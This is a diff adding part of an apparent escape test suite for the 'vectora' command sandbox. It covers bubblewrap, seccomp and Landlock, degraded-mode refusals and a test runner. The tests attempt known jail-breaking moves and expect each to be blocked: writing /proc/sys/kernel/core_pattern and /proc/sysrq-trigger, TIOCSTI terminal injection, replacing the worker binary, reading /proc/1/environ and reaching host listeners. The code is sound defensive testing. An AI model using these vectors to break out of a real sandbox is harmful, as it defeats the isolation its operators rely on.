+@attempt("lockdown: TCP to the host's 127.0.0.1 listener fails")
+def _(c):
+    return expect_blocked(c.probe(c.ws_lock, "tcp", "127.0.0.1", str(c.tcp_port)))
+
+
+@attempt("lockdown: only the loopback interface")
+def _(c):
+    return expect_blocked(c.probe(c.ws_lock, "ifaces"))
+
+
+@attempt("control: network = true reaches the host listener (the tests above can fail)")
+def _(c):
+    return expect_escaped(c.probe(c.ws_net, "tcp", "127.0.0.1", str(c.tcp_port)))
+
+
+# -- environment, devices, terminals
+
+@attempt("the CLI's environment does not leak in (only the allowlist)")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "env", c.m["envvar"], *ENV_ALLOWLIST))
+
+
+@attempt("the worker's own environment (/proc/1/environ) has none of the CLI's")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "read", "/proc/1/environ", c.m["envvar"]))
+
+
+@attempt("no_gpu = true: no GPU nodes, no /sys")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "devices"))
+
+
+@attempt("TIOCSTI refused on stdin, the tty and a pty")
+def _(c):
+    return expect_blocked(c.probe(c.ws, "tiocsti"))
+
+
+# -- kernel interfaces and Landlock
+
+for name, path in (("/proc/sysrq-trigger", "/proc/sysrq-trigger"),
+                   ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/core_pattern"),
+                   ("/proc/sys/kernel/hostname", "/proc/sys/kernel/hostname"),
+                   ("/proc/sys/vm/drop_caches", "/proc/sys/vm/drop_caches")):
+    def _mk(path=path):
+        @attempt(f"exec: open {name} for writing")
+        def _(c):
+            return expect_blocked(c.probe(c.ws, "openw", path))
+    _mk()
+
+for name, args in (("create a file in /run/vectora (the worker's dir)", ("write", "/run/vectora/x")),
+                   ("replace the worker binary", ("write", "/run/vectora/vectora-worker")),
+                   ("create a directory at / (the jail's root)", ("mkdir", "/vectora-probe")),
+                   ("create a node in /dev (writable tmpfs, Landlock denies)", ("mkdir", "/dev/vectora-probe")),
+                   ("create a fifo in /dev (Landlock denies)", ("mkfifo", "/dev/vectora-fifo"))):
+    def _mk(args=args):
+        @attempt(f"exec: {name}")
+        def _(c):
+            return expect_blocked(c.probe(c.ws, *args))
+    _mk()
+
+for name, path in (("/tmp", "/tmp/vectora-probe"), ("$HOME", "/home/sandbox/vectora-probe"),
+                   ("/dev/shm", "/dev/shm/vectora-probe"), ("the workspace", "WS/notes.txt")):
+    def _mk(path=path):
+        @attempt(f"control: writing {name} works")
+        def _(c):
+            return expect_escaped(c.probe(c.ws, "write", path.replace("WS", c.ws)))
+    _mk()
+
+
+# -- the seccomp denylist, one test per row (see run_syscalls)
+
+SYSCALL_RUNS = [
+    ("network off", "ws", ["always", "net-off"]),
+    ("network on", "ws_net", ["always"]),
+    ("lockdown", "ws_lock", ["net-off", "lockdown"]),
+]
+
+
+# -- degraded layers (issue 3, "Done when")
+
+NO_SECCOMP = {"VECTORA_LIBSECCOMP": "/nonexistent/libseccomp.so.2"}
+NO_LANDLOCK = {"VECTORA_NO_LANDLOCK": "1"}
+
+
+@attempt("degraded: no libseccomp: runs, warns, Seccomp: 0, NoNewPrivs still 1")
+def _(c):
+    r = c.probe(c.ws, "status", "Seccomp=0", "NoNewPrivs=1", "CapEff=0000000000000000", extra_env=NO_SECCOMP)
+    err = r.stderr.decode(errors="replace")
+    if "warning: running degraded: seccomp: " not in err:
+        raise Fail(f"no degradation warning on stderr:\n{out_of(r)}")
+    return expect_blocked(r)
+
+
+@attempt("degraded: no libseccomp under lockdown: refused (125), nothing runs")
+def _(c):
+    marker = os.path.join(c.ws_lock, "ran")
+    r = c.probe(c.ws_lock, "write", marker, extra_env=NO_SECCOMP)
+    err = r.stderr.decode(errors="replace")
+    if os.path.exists(marker):
+        raise Fail("the command ran")
+    if r.returncode != EXIT_REFUSED or "lockdown" not in err or "seccomp" not in err:
+        raise Fail(f"expected exit 125 naming lockdown and seccomp, got {r.returncode}:\n{out_of(r)}")
+    return err.strip()
+
+
+@attempt("degraded: no Landlock: runs, warns, seccomp still on, Landlock really off")
+def _(c):
+    r = c.probe(c.ws, "status", "Seccomp=2", "NoNewPrivs=1", extra_env=NO_LANDLOCK)
+    err = r.stderr.decode(errors="replace")
+    if "warning: running degraded: landlock: " not in err:
+        raise Fail(f"no degradation warning on stderr:\n{out_of(r)}")
+    v = expect_blocked(r)
+    # /dev is a tmpfs the jail's uid owns: only Landlock keeps it from
+    # creating nodes there, so without it the same attempt works.
+    r2 = c.probe(c.ws, "mkdir", "/dev/vectora-probe", extra_env=NO_LANDLOCK)
+    expect_escaped(r2)
+    return v + "; mkdir /dev/x works without Landlock"
+
+
+@attempt("degraded: no Landlock under lockdown: refused (125), nothing runs")
+def _(c):
+    marker = os.path.join(c.ws_lock, "ran")
+    r = c.probe(c.ws_lock, "write", marker, extra_env=NO_LANDLOCK)
+    err = r.stderr.decode(errors="replace")
+    if os.path.exists(marker):
+        raise Fail("the command ran")
+    if r.returncode != EXIT_REFUSED or "lockdown" not in err or "Landlock" not in err:
+        raise Fail(f"expected exit 125 naming lockdown and Landlock, got {r.returncode}:\n{out_of(r)}")
+    return err.strip()
+
+
+# ---------------------------------------------------------------- runner
+
+def run_one(name, fn, c):
+    try:
+        detail = fn(c)
+        tap(True, name, detail)
+    except Skip as e:
+        tap(False, name, skip=str(e))
+    except Fail as e:
+        tap(False, name, str(e))
+    except Exception:
+        tap(False, name, traceback.format_exc())
+
+
+def run_syscalls(c, prefix):
+    for label, ws_attr, groups in SYSCALL_RUNS:
+        ws = getattr(c, ws_attr)
+        try:
+            r = c.probe(ws, "syscalls", *groups)
+        except Exception:
+            tap(False, f"{prefix}seccomp ({label}): probe run", traceback.format_exc())
+            continue
+        lines = probe_lines(r)
+        if not lines or r.returncode not in (0, 1):
+            tap(False, f"{prefix}seccomp ({label}): probe run", f"exit {r.returncode}:\n{out_of(r)}")
+            continue
+        for ln in lines:
+            status, rest = ln.split(": ", 1)
+            sc = rest.split(":", 1)[0]
+            tap(status == "BLOCKED", f"{prefix}seccomp ({label}): {sc} denied", ln)
+
+
+def identities():
+    if ROOT:
+        return [Identity("root", 0, 0, []),
+                Identity("uid65534", NOBODY, NOBODY,
+                         ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups"])]
+    return [Identity(f"uid{os.geteuid()}", os.geteuid(), os.getegid(), [])]
+
+
+def preflight():
+    for p in (CLI, WORKER, PROBE):
+        if not os.access(p, os.X_OK):
+            return f"{p} is not built (ninja -C build)"
+    if not shutil.which("bwrap"):
+        return "bwrap is not installed (apt-get install bubblewrap)"
+    if ROOT and not shutil.which("setpriv"):
+        return "setpriv is not installed (util-linux)"
+    return None
+
+
+def main():
+    why = preflight()
+    idents = identities()
+    if why:
+        for ident in idents:
+            for name, _fn in ATTEMPTS:
+                tap(False, f"[{ident.name}] {name}", skip=why)
+    else:
+        if not ROOT:
+            tap(False, "[root] the whole list as root", skip="not running as root")
+        for ident in idents:
+            c = Ctx(ident)
+            prefix = f"[{ident.name}] "
+            try:
+                c.tcp_port = c.listen_tcp()
+                try:
+                    c.listen_tcp(socket.AF_INET6, "::1")
+                except OSError:
+                    pass
+                c.abstract = f"vectora-escape-{secrets.token_hex(4)}"
+                c.listen_unix(abstract=c.abstract)
+                c.daemon_sock = os.path.join(c.xdg, "vectora-sandbox.sock")
+                c.listen_unix(path=c.daemon_sock)
+                c.tmp_sock = os.path.join(tempfile.gettempdir(), f"vectora-escape-{secrets.token_hex(4)}.sock")
+                c.listen_unix(path=c.tmp_sock)
+                c.start_sleeper()
+                # A smoke run first: if the jail cannot start at all, every
+                # attempt would "pass" for the wrong reason.
+                r = c.cli(["exec", "-w", c.ws, "--", c.probe_path(c.ws), "status", "NoNewPrivs=1"])
+                if r.returncode != 0:
+                    tap(False, f"{prefix}the jail starts", f"exit {r.returncode}:\n{out_of(r)}")
+                    continue
+                tap(True, f"{prefix}the jail starts")
+                for name, fn in ATTEMPTS:
+                    run_one(prefix + name, fn, c)
+                run_syscalls(c, prefix)
+            finally:
+                try:
+                    os.unlink(c.tmp_sock)
+                except (OSError, AttributeError):
+                    pass
+                c.cleanup()
+    print(f"1..{counter[0]}")
+    print(f"{results['passed']} passed, {results['failed']} failed, {results['skipped']} skipped")
+    sys.exit(1 if results["failed"] else 0)
+
+
+if __name__ == "__main__":
+    main()
